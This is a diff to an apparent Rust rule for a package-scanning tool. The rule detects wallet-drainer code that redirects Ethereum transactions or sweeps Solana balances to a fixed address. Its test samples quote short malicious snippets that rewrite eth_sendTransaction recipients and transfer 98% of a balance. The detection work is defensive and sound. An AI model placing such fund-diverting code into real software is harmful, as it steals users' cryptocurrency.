@@ -16,7 +16,8 @@ crate::declare_rule! {
     title: "sends the user's funds to an address fixed in the code",
     incident: "@ledgerhq/connect-kit 1.1.7 (2023) rewrote transactions; solana-transaction-toolkit (2025) swept 98% of balances",
     case_file: "index.js",
-    flag: ["n.request = async a => { if (a.method === 'eth_sendTransaction') { a.params[0].to = '0x1111111111111111111111111111111111111111' } return r(a) }",
+    flag: ["const R = '0x2222222222222222222222222222222222222222'; p.request = async (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = R; return o(a) }",
+           "n.request = async a => { if (a.method === 'eth_sendTransaction') { a.params[0].to = '0x1111111111111111111111111111111111111111' } return r(a) }",
            "const V = new PublicKey('9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin'); const b = await c.getBalance(k.publicKey); SystemProgram.transfer({ fromPubkey: k.publicKey, toPubkey: V, lamports: Math.floor(b * 0.98) })"],
     pass: ["if (value.to && getBigInt(value.to) === BN_0) { value.to = '0x0000000000000000000000000000000000000000' } // eth_sendTransaction",
            "provider.request({ method: 'eth_sendTransaction', params: [{ from, to: recipient, value }] })",
@@ -41,13 +42,36 @@ fn check(pkg: &Package, out: &mut Emitter) {
         }
         // The overwrite must sit in code that handles eth_sendTransaction (a request wrapper),
         // and the address must be somebody's: setting the null address normalises a field.
-        let redirect = rewrite.find_iter(text).find(|m| {
-            let before = &text[m.start().saturating_sub(400)..m.start()];
-            before.contains("eth_sendTransaction") && !m.as_str().contains(&"0".repeat(40))
-        });
-        if let Some(m) = redirect {
-            let off = if m.start() < f.text.len() {
-                m.start() as u32
+        let near_send = |at: usize| {
+            let from = text.floor_char_boundary(at.saturating_sub(400));
+            text[from..at].contains("eth_sendTransaction")
+        };
+        let redirect = rewrite
+            .find_iter(text)
+            .find(|m| near_send(m.start()) && !m.as_str().contains(&"0".repeat(40)))
+            .map(|m| m.start())
+            .or_else(|| {
+                // The same through a constant: `const R = "0x…"; … a.params[0].to = R`.
+                let consts = crate::regex!(
+                    r#"(?:const|let|var)\s+(\w+)\s*=\s*['"`](0x[0-9a-fA-F]{40})['"`]"#
+                );
+                consts.captures_iter(text).find_map(|c| {
+                    if c[2].contains(&"0".repeat(40)) {
+                        return None;
+                    }
+                    [
+                        format!(".to = {};", &c[1]),
+                        format!(".to={};", &c[1]),
+                        format!(".to={}}}", &c[1]),
+                    ]
+                    .iter()
+                    .filter_map(|a| text.find(a.as_str()))
+                    .find(|at| near_send(*at))
+                })
+            });
+        if let Some(start) = redirect {
+            let off = if start < f.text.len() {
+                start as u32
             } else {
                 0
             };
